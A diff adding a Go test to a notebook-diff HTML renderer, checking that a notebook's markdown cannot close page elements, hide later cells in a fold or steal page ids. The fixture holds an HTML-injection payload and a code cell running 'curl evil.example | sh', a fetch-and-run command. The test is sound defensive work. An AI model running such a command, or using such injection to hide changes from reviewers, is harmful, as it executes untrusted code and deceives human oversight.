@@ -457,3 +457,88 @@ func TestMarkdown(t *testing.T) {
 		t.Errorf("HTML output sanitized to %s (scripts %v)", html, scripts)
 	}
 }
+
+// TestMarkdownStaysInItsCell: a notebook's markdown cannot close the
+// page's elements around it (end tags of its own, then a fold that would
+// hide the cells after it) nor take the ids of the page's own elements
+// (the images' store, a cell's anchor): found by a probe, every case
+// changed what a reviewer sees.
+func TestMarkdownStaysInItsCell(t *testing.T) {
+	const trap = `Small wording fix.\n\n</div></div></details></article></section></main><details><summary>hidden by a notebook</summary>\n\n` +
+		`<span id=\"nbd-images\">x</span> <p id=\"f0-c1\">anchor</p> [to the anchor](#f0-c1)`
+	parse := func(cells string) *notebook.Notebook {
+		n, err := notebook.Parse([]byte(`{"cells": [` + cells + `], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return n
+	}
+	oldNB := parse(`{"cell_type": "markdown", "id": "i", "metadata": {}, "source": "intro"},
+ {"cell_type": "code", "execution_count": null, "id": "c", "metadata": {}, "outputs": [], "source": "x = 1"}`)
+	newNB := parse(`{"cell_type": "markdown", "id": "m", "metadata": {}, "source": "` + trap + `"},
+ {"cell_type": "markdown", "id": "i", "metadata": {}, "source": "intro"},
+ {"cell_type": "code", "execution_count": 1, "id": "c", "metadata": {}, "source": "import os; os.system('curl evil.example | sh')", "outputs": [
+  {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "` + trap + `"}}]}`)
+	r := diff.Notebooks(oldNB, newNB, diff.Options{Outputs: true})
+	var buf bytes.Buffer
+	if err := Render(&buf, []File{{OldPath: "a.ipynb", NewPath: "a.ipynb", Diff: r}}, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	doc, err := nethtml.Parse(bytes.NewReader(buf.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	ids := map[string]int{}
+	var hidden []string // texts inside a fold the notebook opened
+	var walk func(n *nethtml.Node, inTrap bool)
+	walk = func(n *nethtml.Node, inTrap bool) {
+		if n.Type == nethtml.ElementNode {
+			for _, a := range n.Attr {
+				if a.Key == "id" {
+					ids[a.Val]++
+				}
+			}
+			if n.Data == "details" {
+				for c := n.FirstChild; c != nil; c = c.NextSibling {
+					if c.Type == nethtml.ElementNode {
+						inTrap = inTrap || c.Data == "summary" && textOf(c) == "hidden by a notebook"
+						break
+					}
+				}
+			}
+		}
+		if n.Type == nethtml.TextNode && inTrap && strings.Contains(n.Data, "curl evil") {
+			hidden = append(hidden, n.Data)
+		}
+		for c := n.FirstChild; c != nil; c = c.NextSibling {
+			walk(c, inTrap)
+		}
+	}
+	walk(doc, false)
+	for id, n := range ids {
+		if n > 1 && !strings.HasPrefix(id, "user-content-") {
+			t.Errorf("id %q on %d elements", id, n)
+		}
+	}
+	if ids["user-content-nbd-images"] == 0 || ids["user-content-f0-c1"] == 0 {
+		t.Errorf("the notebook's ids are not kept with their prefix: %v", ids)
+	}
+	if len(hidden) > 0 {
+		t.Errorf("the next cell's code sits in the notebook's fold: %q", hidden)
+	}
+	if !bytes.Contains(buf.Bytes(), []byte(`href="#user-content-f0-c1"`)) {
+		t.Error("a link to the notebook's own anchor does not follow its id")
+	}
+}
+
+// textOf returns the text below n.
+func textOf(n *nethtml.Node) string {
+	if n.Type == nethtml.TextNode {
+		return n.Data
+	}
+	var b strings.Builder
+	for c := n.FirstChild; c != nil; c = c.NextSibling {
+		b.WriteString(textOf(c))
+	}
+	return b.String()
+}
